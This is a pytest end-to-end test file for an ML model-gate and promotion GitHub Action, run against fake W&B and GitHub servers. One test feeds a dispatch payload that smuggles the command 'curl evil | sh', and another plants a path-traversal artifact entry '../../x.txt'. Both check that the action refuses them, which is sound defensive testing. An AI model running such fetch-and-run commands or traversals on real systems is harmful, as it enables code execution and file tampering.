"""model-gate and promote end to end: entrypoint.py as a subprocess, as the runner starts it for a
``repository_dispatch`` sent by a W&B automation, against the fake W&B (the real ``wandb`` SDK over
HTTP on loopback) and the fake GitHub. Models are real CNNs trained on generated images; accuracy
figures are checked against a plain torch computation on the same eval data."""

from __future__ import annotations

import io
import json
import os
import shutil
from collections.abc import Callable, Mapping
from concurrent.futures import ThreadPoolExecutor
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import jsonschema
import pytest
import torch

from tests import helpers
from tests.fakes.faults import server_error
from tests.fakes.github import FakeGitHub
from tests.fakes.wandb_server import FakeWandb
from tests.fixtures.model_zoo import SmallCNN
from tests.fixtures.models import make_images, torchscript_bytes, trained_cnn

pytestmark = pytest.mark.slow  # each run imports torch and wandb in a fresh process (~5 s)

ROOT = Path(__file__).resolve().parents[2]
EVENTS = ROOT / "tests" / "fixtures" / "events"
SCHEMA = json.loads((ROOT / "schemas" / "model-gate-report.schema.json").read_text())
ENTITY, TRAIN_PROJECT, SEQUENCE = "acme", "mnist-train", "mnist-cnn"
REGISTRY = "wandb-registry-model/mnist"
MANIFEST = ".mlgate/promotions/mnist.json"
EVAL_SAMPLES, EVAL_SEED = 500, 7
FAST = {"predictions": "20", "batch-sizes": "1", "host-figures": "false"}


def reference_accuracy(model: SmallCNN) -> float:
    """Independent of mlgate: the eval images as the test writes them, through the model, argmax."""
    images, labels = make_images(EVAL_SAMPLES, seed=EVAL_SEED)
    with torch.no_grad():
        predicted = model(images.float().div(255).unsqueeze(1)).argmax(1)
    return float((predicted == labels).double().mean())


@dataclass(frozen=True)
class Models:
    good: SmallCNN  # 100 % on the eval data
    weak: SmallCNN  # about 40 %
    files: dict[int, dict[str, bytes]]  # id(model) -> the artifact's files (a TorchScript model.pt)

    def file(self, model: SmallCNN) -> dict[str, bytes]:
        return self.files[id(model)]


@pytest.fixture(scope="module")
def models() -> Models:
    good, weak = trained_cnn(), trained_cnn(seed=2, samples=160, epochs=1)
    return Models(good, weak, {id(m): {"model.pt": torchscript_bytes(m, "trace")} for m in (good, weak)})


@pytest.fixture
def workspace(tmp_path: Path) -> Path:
    """The checkout: eval data in the course layout under data/processed."""
    data = tmp_path / "ws" / "data" / "processed"
    data.mkdir(parents=True)
    images, labels = make_images(EVAL_SAMPLES, seed=EVAL_SEED)
    torch.save(images, data / "test_images.pt")
    torch.save(labels, data / "test_target.pt")
    return tmp_path / "ws"


@dataclass(frozen=True)
class Staged:
    source: str  # "acme/mnist-train/mnist-cnn:vN": what the training job logged
    registry_version: str  # "wandb-registry-model/mnist:vM": its membership in the registry


def staged(fake: FakeWandb, files: dict[str, bytes]) -> Staged:
    """Log a version and give it `staging` in the registry, as the training job does."""
    source = fake.add_model(ENTITY, TRAIN_PROJECT, SEQUENCE, files)
    return Staged(source, fake.link(source, REGISTRY, ["staging"]))


def dispatch_event(version: Staged, **payload: str) -> dict[str, Any]:
    """GitHub's repository_dispatch example with the W&B automation's client_payload filled in."""
    event = json.loads((EVENTS / "repository_dispatch.json").read_text())
    event["action"] = "staged_model"
    event["client_payload"] = {
        "artifact_version_string": f"{ENTITY}/{version.registry_version}",
        "artifact_collection_name": "mnist",
        "entity_name": ENTITY,
        "project_name": "wandb-registry-model",
        "alias": "staging",
        "event_type": "ADD_ARTIFACT_ALIAS",
        **payload,
    }
    return event


def push_event(*added: str) -> dict[str, Any]:
    event = json.loads((EVENTS / "push.json").read_text())
    event["ref"] = "refs/heads/main"
    event["commits"][0]["added"] = list(added)
    event["head_commit"]["added"] = list(added)
    return event


class Run(helpers.Run):
    def report(self) -> dict[str, Any]:
        report = json.loads((self.workspace / self.outputs["report-json"]).read_text())
        jsonschema.validate(report, SCHEMA)
        return dict(report)

    def gates(self) -> dict[str, dict[str, Any]]:
        return {gate["name"]: gate for gate in self.report()["gates"]}


RunAction = Callable[..., Run]


@pytest.fixture
def run_action(tmp_path: Path, fake_wandb: FakeWandb, fake_github: FakeGitHub) -> RunAction:
    """Start entrypoint.py as the runner starts the container: INPUT_* and GITHUB_* variables."""
    counter = iter(range(100))

    def start(workspace: Path, event_name: str, event: Mapping[str, Any], mode: str = "model-gate",
              runner_env: Mapping[str, str] | None = None, **inputs: str) -> Run:
        env = {
            # the fake_wandb fixture's cache dirs and fast-failing retry settings; no WANDB_API_KEY,
            # so the key reaches the SDK only through the `wandb-api-key` input, as in a workflow
            **{k: v for k, v in os.environ.items() if k.startswith("WANDB_") and k != "WANDB_API_KEY"},
            **fake_github.env(),
            "GITHUB_SHA": fake_github.repo.branch_sha("main") or "",
            "INPUT_MODE": mode,
            "INPUT_GITHUB-TOKEN": fake_github.token,
            "INPUT_WANDB-API-KEY": fake_wandb.api_key,
            # the runner passes every declared input, empty when the workflow leaves it out
            "INPUT_MODEL": "",
            "INPUT_REGISTRY": "",
            "INPUT_TITLE": "",
        }
        if mode == "model-gate":
            env["INPUT_EVAL-DATA"] = "data/processed"
            env.update({f"INPUT_{name.upper()}": value for name, value in FAST.items()})
        done = helpers.run_entrypoint(tmp_path / f"run{next(counter)}", workspace, event_name, event, env, inputs,
                                      runner_env=runner_env)
        return Run(**vars(done))

    return start


@pytest.mark.reliability(
    "race", "model-gate with `on-pass: promote` rerun for the same dispatch",
    "exit 0 both times; `production` linked once; the rerun says it already holds `production`"
)
def test_pass_with_on_pass_promote__links_production_once_and_rerun_does_nothing(
    fake_wandb: FakeWandb, models: Models, workspace: Path, run_action: RunAction
) -> None:
    staging = staged(fake_wandb, models.file(models.good))
    candidate = staging.source
    event = dispatch_event(staging)

    first = run_action(workspace, "repository_dispatch", event, on_pass="promote", min_accuracy="0.95")
    assert first.returncode == 0, first.stdout + first.stderr
    assert fake_wandb.alias_map(REGISTRY)["production"] == candidate
    assert len(fake_wandb.link_operations) == 1
    assert fake_wandb.link_operations[0].aliases == ("production",)
    report = first.report()
    assert report["passed"] is True
    assert report["model"] == candidate  # the pinned source version, not the moving `staging`
    assert report["collection"] == REGISTRY
    assert report["accuracy"] == pytest.approx(reference_accuracy(models.good), abs=1e-9)
    assert report["baseline"] is None
    assert first.outputs["passed"] == "true"
    assert first.outputs["model"] == candidate
    assert float(first.outputs["accuracy"]) == pytest.approx(report["accuracy"], abs=1e-6)
    assert float(first.outputs["latency-p95-ms"]) == pytest.approx(report["latency_ms"]["p95"], abs=1e-4)
    assert "promoted:" in first.summary and "## ✅ Model gate" in first.summary

    second = run_action(workspace, "repository_dispatch", event, on_pass="promote", min_accuracy="0.95")
    assert second.returncode == 0, second.stdout + second.stderr
    assert len(fake_wandb.link_operations) == 1
    assert "already holds `production`" in second.summary
    assert second.report()["baseline"] is None  # production is the candidate itself: nothing to compare


@pytest.mark.reliability(
    "exit", "a model that fails `max-latency-ms` with `on-pass: promote`",
    "exit 1; nothing linked, candidate tagged `gate-failed`; the report, outputs and summary still published"
)
def test_failed_gate__links_nothing_tags_the_candidate_fails_the_step_and_still_reports(
    fake_wandb: FakeWandb, models: Models, workspace: Path, run_action: RunAction
) -> None:
    staging = staged(fake_wandb, models.file(models.good))
    result = run_action(workspace, "repository_dispatch", dispatch_event(staging), on_pass="promote",
                        max_latency_ms="0.000001", min_accuracy="0.9", on_fail_alias="gate-failed")
    assert result.returncode == 1, result.stdout + result.stderr
    aliases = fake_wandb.alias_map(REGISTRY)
    assert "production" not in aliases
    assert aliases["gate-failed"] == aliases["staging"] == staging.source  # tagged where it was staged
    assert fake_wandb.link_operations == []
    gates = result.gates()
    assert gates["max-latency-ms"]["passed"] is False
    assert gates["max-latency-ms"]["detail"] == (
        f"{gates['max-latency-ms']['value'] - 0.000001:#.3g} ms over the 0.000001 ms limit")
    assert gates["min-accuracy"]["passed"] is True
    assert result.outputs["passed"] == "false"
    assert result.outputs["model"] == staging.source
    assert "## ❌ Model gate" in result.summary and "`max-latency-ms`" in result.summary
    assert "not promoted" in result.summary and "Added alias `gate-failed`" in result.summary


def test_on_pass_pull_request__one_pr_with_pinned_manifest_then_promote_after_merge_links_it(
    fake_wandb: FakeWandb, fake_github: FakeGitHub, models: Models, workspace: Path, run_action: RunAction,
    tmp_path: Path,
) -> None:
    staging = staged(fake_wandb, models.file(models.good))
    candidate = staging.source
    event = dispatch_event(staging)

    first = run_action(workspace, "repository_dispatch", event, on_pass="pull-request", min_accuracy="0.9")
    assert first.returncode == 0, first.stdout + first.stderr
    second = run_action(workspace, "repository_dispatch", event, on_pass="pull-request", min_accuracy="0.9")
    assert second.returncode == 0, second.stdout + second.stderr

    repo = fake_github.repo
    [pull] = [p for p in repo.pulls.values() if p.state == "open"]
    assert pull.head_ref == "mlgate/promote-mnist" and pull.base_ref == "main"
    assert first.outputs["pull-request-url"] == second.outputs["pull-request-url"] != ""
    assert first.outputs["pull-request-url"].endswith(f"/pull/{pull.number}")
    assert "Promote" in pull.title and candidate in pull.title
    assert "Merging this pull request links" in (pull.body or "")
    manifest = json.loads(repo.files(pull.head_ref)[MANIFEST])
    assert manifest["artifact"] == candidate and manifest["artifact"].endswith(":v0")
    assert manifest["version"] == "v0"
    assert manifest["collection"] == REGISTRY and manifest["alias"] == "production"
    assert manifest["passed"] is True
    assert manifest["metrics"]["accuracy"] == pytest.approx(reference_accuracy(models.good), abs=1e-9)
    assert [g["name"] for g in manifest["gates"]] == ["min-accuracy"]
    assert fake_wandb.link_operations == []  # nothing is promoted before a human merges
    assert fake_github.violations == []

    # the merge: main now holds the manifest, and the push workflow runs `mode: promote`
    merged = tmp_path / "merged"
    (merged / MANIFEST).parent.mkdir(parents=True)
    (merged / MANIFEST).write_bytes(repo.files(pull.head_ref)[MANIFEST])
    promoted = run_action(merged, "push", push_event("README.md", MANIFEST), mode="promote")
    assert promoted.returncode == 0, promoted.stdout + promoted.stderr
    assert fake_wandb.alias_map(REGISTRY)["production"] == candidate
    assert len(fake_wandb.link_operations) == 1
    assert promoted.outputs["model"] == candidate
    assert f"`{candidate}` now holds `production`" in promoted.summary


@pytest.mark.reliability(
    "race", "two model-gate runs with `on-pass: pull-request` for one staged model at once, both listing "
    "open pull requests before either creates one",
    "exit 0 for both; one pull request, one branch; both runs output its URL (the loser's create gets "
    "GitHub's 422 'already exists' and updates the PR)"
)
def test_two_concurrent_runs_on_pass_pull_request__one_pr_one_branch_both_exit_0(
    fake_wandb: FakeWandb, fake_github: FakeGitHub, models: Models, workspace: Path, run_action: RunAction,
    tmp_path: Path,
) -> None:
    event = dispatch_event(staged(fake_wandb, models.file(models.good)))
    # both runs list the open PRs of the branch before either creates one: the race, on every try
    fake_github.rendezvous("GET", r"/repos/octo-org/octo-repo/pulls", parties=2, timeout=150)
    checkouts = [workspace, tmp_path / "ws2"]  # two jobs, two runners, two checkouts
    shutil.copytree(workspace, checkouts[1])
    patient = {"MLGATE_HTTP_TIMEOUT_S": "180", "MLGATE_RETRY_BUDGET_S": "240"}  # the held list is not a timeout

    with ThreadPoolExecutor(2) as pool:
        runs = list(pool.map(lambda ws: run_action(ws, "repository_dispatch", event, runner_env=patient,
                                                   on_pass="pull-request", min_accuracy="0.9"), checkouts))

    for run in runs:
        assert run.returncode == 0, run.stdout + run.stderr
    repo = fake_github.repo
    [pull] = repo.pulls.values()
    assert pull.state == "open" and pull.head_ref == "mlgate/promote-mnist"
    assert [ref for ref in repo.refs if ref.startswith("refs/heads/mlgate/")] == ["refs/heads/mlgate/promote-mnist"]
    url = f"{fake_github.server_url}/octo-org/octo-repo/pull/{pull.number}"
    assert {run.outputs["pull-request-url"] for run in runs} == {url}
    creates = [r.status for r in fake_github.requests if r.method == "POST" and r.path.endswith("/pulls")]
    assert sorted(creates) == [201, 422]  # the race happened, and the loser was answered by GitHub's refusal
    assert json.loads(repo.files(pull.head_ref)[MANIFEST])["artifact"] == fake_wandb.members(REGISTRY)[0]
    assert fake_github.violations == []


def test_production_baseline__ratios_and_relative_gates_against_the_production_version(
    fake_wandb: FakeWandb, models: Models, workspace: Path, run_action: RunAction
) -> None:
    production = fake_wandb.add_model(ENTITY, TRAIN_PROJECT, SEQUENCE, models.file(models.good))
    fake_wandb.link(production, REGISTRY, ["production"])
    staging = staged(fake_wandb, models.file(models.weak))
    candidate = staging.source

    result = run_action(workspace, "repository_dispatch", dispatch_event(staging), on_pass="promote",
                        max_accuracy_drop="0.01", max_latency_regression="100")
    assert result.returncode == 1, result.stdout + result.stderr
    report = result.report()
    assert report["model"] == candidate
    baseline = report["baseline"]
    assert baseline["model"] == production and baseline["alias"] == "production"
    weak, good = reference_accuracy(models.weak), reference_accuracy(models.good)
    assert baseline["accuracy"] == pytest.approx(good, abs=1e-9)
    assert baseline["ratios"]["accuracy"] == pytest.approx(weak / good, rel=1e-9)
    assert baseline["ratios"]["latency_p95"] == pytest.approx(
        report["latency_ms"]["p95"] / baseline["latency_ms"]["p95"], rel=1e-9)
    assert baseline["ratios"]["params"] == 1.0
    gates = result.gates()
    assert gates["max-accuracy-drop"]["passed"] is False
    assert gates["max-accuracy-drop"]["value"] == pytest.approx(good - weak, abs=1e-9)
    assert f"{(good - weak - 0.01) * 100:.1f} pp over the 1 pp limit" in gates["max-accuracy-drop"]["detail"]
    assert gates["max-latency-regression"]["passed"] is True
    assert fake_wandb.alias_map(REGISTRY)["production"] == production  # untouched
    assert fake_wandb.link_operations == []
    assert f"production (`{production}`)" in result.summary


@pytest.mark.reliability(
    "input", "repository_dispatch payload `acme/proj/model:v1; curl evil | sh`",
    "exit 2: `::error` names `client_payload.artifact_version_string` and shows the expected payload; W&B never "
    "asked"
)
def test_malformed_payload__exits_2_with_the_expected_payload_in_the_error(
    fake_wandb: FakeWandb, workspace: Path, run_action: RunAction
) -> None:
    event = json.loads((EVENTS / "repository_dispatch.json").read_text())
    event["action"] = "staged_model"
    event["client_payload"] = {"artifact_version_string": "acme/proj/model:v1; curl evil | sh"}
    result = run_action(workspace, "repository_dispatch", event, on_pass="promote")
    assert result.returncode == 2
    [error] = [line for line in result.stdout.splitlines() if line.startswith("::error")]
    assert "client_payload.artifact_version_string" in error
    assert '"artifact_version_string": "${artifact_version_string}"' in error
    assert "${artifact_collection_name}" in result.summary
    assert fake_wandb.operations == []  # refused before W&B was asked anything


@pytest.mark.reliability(
    "data", "staged W&B model that is a full pickle",
    "exit 2: “Refused to unpickle” naming the version; `trust-pickle: true` in the log and summary; nothing "
    "linked"
)
def test_pickled_model__refused_with_a_pointer_to_trust_pickle(
    fake_wandb: FakeWandb, models: Models, workspace: Path, run_action: RunAction
) -> None:
    pickled = io.BytesIO()
    torch.save(models.good, pickled)
    staging = staged(fake_wandb, {"model.pt": pickled.getvalue()})
    result = run_action(workspace, "repository_dispatch", dispatch_event(staging), on_pass="promote")
    assert result.returncode == 2
    [error] = [line for line in result.stdout.splitlines() if line.startswith("::error")]
    assert "Refused to unpickle" in error and staging.source in error
    assert "trust-pickle: true" in result.stdout and "trust-pickle: true" in result.summary
    assert fake_wandb.link_operations == []


@pytest.mark.reliability(
    "wire", "W&B answers 502 to every link request during `on-pass: promote`; the job is rerun",
    "exit 3 naming `Linking '<candidate> -> <collection>' on W&B`; the report is still published; `production` "
    "untouched; the rerun (W&B healthy) exits 0 and links once"
)
def test_wandb_failing_during_promotion__exit_3_then_rerun_links_once(
    fake_wandb: FakeWandb, models: Models, workspace: Path, run_action: RunAction
) -> None:
    staging = staged(fake_wandb, models.file(models.good))
    event = dispatch_event(staging)
    fake_wandb.inject("LinkArtifact", *[server_error(502)] * 50)

    failed = run_action(workspace, "repository_dispatch", event, on_pass="promote", min_accuracy="0.95")

    assert failed.returncode == 3, failed.stdout + failed.stderr
    assert f"Linking '{staging.source} -> {REGISTRY}' on W&B" in failed.stdout + failed.stderr
    assert failed.report()["passed"] is True  # measured and published before the promotion failed
    assert "production" not in fake_wandb.alias_map(REGISTRY)
    fake_wandb.faults.clear()

    rerun = run_action(workspace, "repository_dispatch", event, on_pass="promote", min_accuracy="0.95")

    assert rerun.returncode == 0, rerun.stdout + rerun.stderr
    assert fake_wandb.alias_map(REGISTRY)["production"] == staging.source
    assert [op.aliases for op in fake_wandb.link_operations] == [("production",)]


@pytest.mark.reliability(
    "data", "W&B answers an empty digest for both the `production` holder and the staged candidate",
    "two versions (identity by version id): the approval pull request opens with the comparison against production"
)
def test_empty_digests__pull_request_still_compares_with_production(
    fake_wandb: FakeWandb, fake_github: FakeGitHub, models: Models, workspace: Path, run_action: RunAction
) -> None:
    production = fake_wandb.add_model(ENTITY, TRAIN_PROJECT, SEQUENCE, models.file(models.weak))
    fake_wandb.link(production, REGISTRY, ["production"])
    staging = staged(fake_wandb, models.file(models.good))
    fake_wandb.digest_answers = {production: "", staging.source: ""}

    result = run_action(workspace, "repository_dispatch", dispatch_event(staging), on_pass="pull-request",
                        min_accuracy="0.9")

    assert result.returncode == 0, result.stdout + result.stderr
    baseline = result.report()["baseline"]
    assert baseline is not None and baseline["model"] == production
    assert baseline["accuracy"] == pytest.approx(reference_accuracy(models.weak), abs=1e-9)
    [pull] = fake_github.repo.pulls.values()
    assert f"production (`{production}`)" in (pull.body or "")
    assert "Already in production" not in result.stderr + result.stdout


@pytest.mark.reliability(
    "data", "a staged W&B artifact whose manifest holds the entry `../../x.txt`",
    "exit 2 (not 3 'W&B unavailable … rerun'): names the artifact and the entry; nothing downloaded outside"
)
def test_artifact_entry_outside_the_artifact__exit_2_naming_the_entry(
    fake_wandb: FakeWandb, models: Models, workspace: Path, run_action: RunAction, tmp_path: Path
) -> None:
    staging = staged(fake_wandb, {**models.file(models.good), "../../x.txt": b"planted"})

    result = run_action(workspace, "repository_dispatch", dispatch_event(staging), on_pass="none")

    assert result.returncode == 2, result.stdout + result.stderr
    assert "'../../x.txt'" in result.stdout and "W&B artifact holds an unsafe file name" in result.stdout
    assert "W&B unavailable" not in result.stdout
    assert list(tmp_path.rglob("x.txt")) == []


@pytest.mark.reliability(
    "input", "model-gate `on-pass: promote` to the protected alias `production` with a registry Member's key",
    "exit 2 after the report is published: names `production` and the registry Admin role (or a service account "
    "with it); `production` untouched"
)
def test_protected_production__member_key_exit_2_naming_alias_and_role(
    fake_wandb: FakeWandb, models: Models, workspace: Path, run_action: RunAction
) -> None:
    production = fake_wandb.add_model(ENTITY, TRAIN_PROJECT, SEQUENCE, models.file(models.weak))
    fake_wandb.link(production, REGISTRY, ["production"])
    staging = staged(fake_wandb, models.file(models.good))
    fake_wandb.protected_aliases, fake_wandb.registry_role = {"production"}, "member"

    result = run_action(workspace, "repository_dispatch", dispatch_event(staging), on_pass="promote",
                        min_accuracy="0.9")

    assert result.returncode == 2, result.stdout + result.stderr
    assert "::error title=W&B refused the alias::" in result.stdout
    assert "alias `production`" in result.stdout and "registry Admin role (or a service account" in result.stdout
    assert fake_wandb.alias_map(REGISTRY)["production"] == production
    assert result.report()["passed"] is True  # measured and published, then the promotion was refused
    assert "W&B refused the alias" in result.summary
